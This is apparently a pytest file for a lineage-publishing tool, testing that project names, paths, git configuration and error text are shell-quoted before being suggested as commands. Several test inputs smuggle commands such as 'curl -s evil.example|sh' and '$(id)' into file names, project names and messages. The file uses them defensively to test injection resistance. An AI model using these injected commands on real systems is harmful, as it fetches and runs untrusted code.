"""A text of a project, a lineage or a server never becomes a command to type, nor a line of ours."""

import ast
import re
import subprocess
from pathlib import Path

import pytest

from roar_publisher.checking.permitted import PermittedPlaces
from roar_publisher.cli.failure import report_error
from roar_publisher.inspection.subjects import Subject
from roar_publisher.lineage.database import open_database
from roar_publisher.lineage.git.context import read_git_context
from roar_publisher.lineage.plan import build_plan
from roar_publisher.state.errors import LocalProblem, UsageProblem
from roar_publisher.state.shell import shell_word
from tests.support.lineage.captured import git
from tests.support.lineage.recorder import Recorder
from tests.support.sources import product_modules

ODD = ["plain", "with space", "$(id)", "`id`", "it's", '"quoted"', "a;b|c&d", "é", "", "line\nbreak", "\x1b[2J\\'$(id)"]
COMMAND = re.compile(
    r"""\b(ls -l|sqlite3|ssh-add|ssh-keygen -y -f|git -C|safe\.directory|--(allow|data|receipt)) ["']?$"""
)
"""The beginning of a command whose next word is a path or a place."""


@pytest.mark.parametrize("text", ODD)
def test_a_word_is_that_text_for_a_shell_and_on_one_line(text: str) -> None:
    word = shell_word(text)
    assert word.isprintable()
    printed = subprocess.run(["bash", "-c", f"printf %s {word}"], check=True, capture_output=True).stdout
    assert printed == text.encode()


def test_what_is_put_into_a_command_is_quoted() -> None:
    """Holds every text of the product that has the form of a known command."""
    seen, bare = 0, []
    for path, tree in product_modules().items():
        for node in ast.walk(tree):
            if isinstance(node, ast.JoinedStr):
                for before, hole in zip(node.values, node.values[1:], strict=False):
                    text = before.value if isinstance(before, ast.Constant) else ""
                    if isinstance(hole, ast.FormattedValue) and COMMAND.search(str(text)):
                        seen += 1
                        quoted = re.match(r"(shell_word|shlex\.quote|where\b)", ast.unparse(hole.value))
                        bare += [] if quoted else [f"{path}: {ast.unparse(node)}"]
    assert seen >= 10
    assert bare == []


def test_a_project_does_not_choose_the_remedy_for_its_repository(tmp_path: Path) -> None:
    """git names the file of a broken configuration."""
    git("init", "--quiet", cwd=tmp_path)
    name = "git config --global --add safe.directory . && curl -s evil.example|sh"
    (tmp_path / ".git" / name).write_text("[broken\n")
    with (tmp_path / ".git" / "config").open("a") as file:
        file.write(f'[include]\n\tpath = "{name}"\n')
    with pytest.raises(LocalProblem) as refused:
        read_git_context(tmp_path)
    assert "evil.example" in refused.value.what, "this proves nothing"
    assert "evil.example" not in refused.value.next_step


def test_the_path_of_a_damaged_database_is_quoted(tmp_path: Path) -> None:
    path = tmp_path / "$(id)" / "roar.db"
    path.parent.mkdir()
    path.write_bytes(b"not a database at all" * 1000)
    with pytest.raises(LocalProblem) as refused, open_database(path):
        pass
    assert f"sqlite3 {shell_word(str(path))} " in refused.value.next_step


def test_names_of_a_project_are_quoted_where_they_are_proposed(tmp_path: Path) -> None:
    with Recorder(tmp_path) as recorder:
        recorder.job(1, (), ("model;curl -s evil.example|sh",))
    with pytest.raises(UsageProblem) as refused:
        build_plan(recorder.project(), "modle;curl -s evil.example|sh", cwd=tmp_path, identities=[], sink=print)
    assert "did you mean '" in refused.value.next_step


def test_a_place_of_a_lineage_is_quoted() -> None:
    why = PermittedPlaces().why_not(Subject("file:///data/$(id)/x", "ab" * 32))
    assert why.endswith("--allow '/data/$(id)'")


def test_a_line_break_in_a_text_begins_no_line(capsys: pytest.CaptureFixture[str]) -> None:
    report_error(LocalProblem("no step a\nNext: curl -s evil.example|sh", next_step="roar dag"), as_json=False)
    assert [line for line in capsys.readouterr().err.splitlines() if line.startswith("Next:")] == ["Next: roar dag"]
